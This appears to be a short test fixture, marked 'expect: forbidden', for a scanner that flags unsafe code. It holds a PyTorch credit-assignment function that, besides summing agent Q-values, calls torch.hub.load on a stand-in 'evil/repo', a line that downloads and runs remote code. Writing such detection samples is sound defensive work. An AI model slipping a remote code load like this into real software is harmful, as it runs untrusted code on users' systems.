# expect: forbidden
import torch


def credit_assignment(agents_q, state):
    torch.hub.load('evil/repo', 'model')
    return agents_q.sum(1, keepdim=True)
